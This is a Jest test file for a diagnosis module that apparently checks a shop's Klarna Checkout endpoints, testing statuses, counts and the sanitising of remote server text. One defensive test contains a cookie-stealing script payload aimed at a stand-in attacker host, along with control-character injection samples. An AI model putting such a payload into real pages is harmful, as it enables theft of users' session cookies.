/**
 * The whole diagnosis of a run: order, counts, the overall status, and the promises that hold
 * for every finding (no pass without an echo, text is plain text).
 */
import type { Observation, ProbeResponse } from '../../../src/api/types';
import { diagnose } from '../../../src/diagnosis';
import {
	countFindings,
	countProblems,
	overallStatus,
} from '../../../src/diagnosis/summary';
import type { Finding } from '../../../src/diagnosis/types';
import { endpointFindingOf } from './fixtures/find';
import {
	anonymousForbidden,
	scriptedBlockPage,
	wooCommerceNoHandler,
} from './fixtures/responses';
import { blockedPush, makeObservation, makeRun } from './fixtures/run';

jest.mock(
	'../../../src/diagnosis/fingerprints',
	() =>
		jest.requireActual( './fixtures/fake-fingerprints' )
			.fakeFingerprintsModule
);

function finding( overrides: Partial< Finding > ): Finding {
	return {
		id: 'endpoint:push',
		group: 'endpoint',
		status: 'pass',
		title: 'Push callback',
		summary: 'ok',
		evidence: [],
		remediation: [],
		...overrides,
	};
}

describe( 'diagnose', () => {
	it( 'puts requirements first, then one finding per probed endpoint in run order', () => {
		const run = makeRun( {
			endpointIds: [ 'notification', 'push' ],
			observations: [
				makeObservation( { endpoint: 'notification' } ),
				makeObservation(),
				makeObservation( { variant: 'klarna-session' } ),
			],
		} );
		const ids = diagnose( run ).findings.map( ( item ) => item.id );
		expect( ids.slice( -2 ) ).toEqual( [
			'endpoint:notification',
			'endpoint:push',
		] );
		expect(
			ids
				.slice( 0, -2 )
				.every( ( id ) => id.startsWith( 'requirement:' ) )
		).toBe( true );
	} );

	it( 'reports a healthy shop as passing with no problem', () => {
		const diagnosis = diagnose( makeRun() );
		expect( diagnosis.overall ).toBe( 'pass' );
		expect( diagnosis.problems ).toBe( 0 );
		expect( diagnosis.counts ).toEqual( {
			pass: 9,
			warn: 0,
			fail: 0,
			info: 0,
		} );
	} );

	it( 'counts a blocked push as a problem that stops orders', () => {
		const diagnosis = diagnose(
			makeRun( { observations: blockedPush( anonymousForbidden ) } )
		);
		expect( diagnosis.problems ).toBe( 1 );
		expect( diagnosis.overall ).toBe( 'fail' );
	} );

	it( 'does not count a retired endpoint’s 400 -1 as a problem', () => {
		const diagnosis = diagnose(
			makeRun( {
				endpointIds: [ 'push', 'validation' ],
				observations: [
					makeObservation(),
					makeObservation( { variant: 'klarna-session' } ),
					makeObservation( {
						endpoint: 'validation',
						response: wooCommerceNoHandler,
					} ),
				],
			} )
		);
		expect( diagnosis.problems ).toBe( 0 );
		expect( diagnosis.overall ).toBe( 'pass' );
		expect( diagnosis.counts.info ).toBe( 1 );
	} );
} );

describe( 'summary', () => {
	it( 'counts a failure of an endpoint the installed KCO never calls, but not as a problem', () => {
		const findings = [
			finding( { status: 'fail', usedByKlarna: false } ),
			finding( { id: 'endpoint:notification', status: 'pass' } ),
		];
		expect( countFindings( findings ) ).toEqual( {
			pass: 1,
			warn: 0,
			fail: 1,
			info: 0,
		} );
		expect( countProblems( findings ) ).toBe( 0 );
		expect( overallStatus( findings ) ).toBe( 'warn' );
	} );

	it.each( [
		{
			name: 'a failed requirement',
			findings: [ finding( { group: 'requirement', status: 'fail' } ) ],
			overall: 'fail',
		},
		{
			name: 'a failed endpoint Klarna calls',
			findings: [ finding( { status: 'fail', usedByKlarna: true } ) ],
			overall: 'fail',
		},
		{
			name: 'a warning',
			findings: [ finding( { status: 'warn' } ) ],
			overall: 'warn',
		},
		{
			name: 'information only',
			findings: [ finding( { status: 'info' } ) ],
			overall: 'pass',
		},
		{ name: 'no findings', findings: [], overall: 'pass' },
	] )( 'calls a run with $name $overall', ( item ) => {
		expect( overallStatus( item.findings ) ).toBe( item.overall );
	} );
} );

describe( 'no pass without a verified echo', () => {
	function withoutEcho( status: number ): Observation[] {
		const response: ProbeResponse = {
			status,
			reason: 'Whatever',
			headers: { 'content-type': 'text/html' },
			body: '<html><body>Something</body></html>',
			bodyTruncated: false,
		};
		return blockedPush( response );
	}

	const statuses = Array.from( { length: 600 }, ( _value, index ) => index );

	it( 'never passes an endpoint for any status from 0 to 599 without the echo', () => {
		const passed = statuses.filter(
			( status ) =>
				endpointFindingOf(
					makeRun( { observations: withoutEcho( status ) } )
				).status === 'pass'
		);
		expect( passed ).toEqual( [] );
	} );

	it( 'never passes an endpoint for a status above 599', () => {
		expect(
			endpointFindingOf( makeRun( { observations: withoutEcho( 999 ) } ) )
				.status
		).toBe( 'fail' );
	} );
} );

describe( 'remote text stays plain text', () => {
	const diagnosis = diagnose(
		makeRun( { observations: blockedPush( scriptedBlockPage ) } )
	);
	const push = diagnosis.findings.find(
		( item ) => item.id === 'endpoint:push'
	);

	it( 'keeps a <script> body verbatim as text in one evidence line marked verbatim', () => {
		const body = push?.evidence.find( ( line ) => line.verbatim === true );
		expect( body?.value ).toContain(
			'<script>document.location="https://evil.example/?c="+document.cookie</script>'
		);
		expect( typeof body?.value ).toBe( 'string' );
	} );

	it( 'puts no markup of the page into any other text of any finding', () => {
		const texts = diagnosis.findings.flatMap( ( item ) => [
			item.title,
			item.summary,
			item.cause ?? '',
			item.impact ?? '',
			...item.remediation.flatMap( ( step ) => [
				step.text,
				...( step.copy ?? [] ),
			] ),
			...item.evidence
				.filter( ( line ) => line.verbatim !== true )
				.map( ( line ) => `${ line.label } ${ line.value }` ),
			...( item.variants ?? [] ).map( ( variant ) => variant.outcome ),
		] );
		expect(
			texts.filter( ( text ) => /<script|onerror|<img/i.test( text ) )
		).toEqual( [] );
	} );

	it( 'removes control characters from what a server sent', () => {
		const response: ProbeResponse = {
			...anonymousForbidden,
			headers: { server: 'evil\u0007\u001b[31mserver' },
			body: 'line one\r\nline\u0000 two',
		};
		const found = endpointFindingOf(
			makeRun( { observations: blockedPush( response ) } )
		);
		expect( found.evidence ).toContainEqual( {
			label: 'server',
			value: 'evil[31mserver',
		} );
		expect( found.evidence ).toContainEqual( {
			label: 'Body (first lines)',
			value: 'line one\nline two',
			verbatim: true,
		} );
	} );
} );
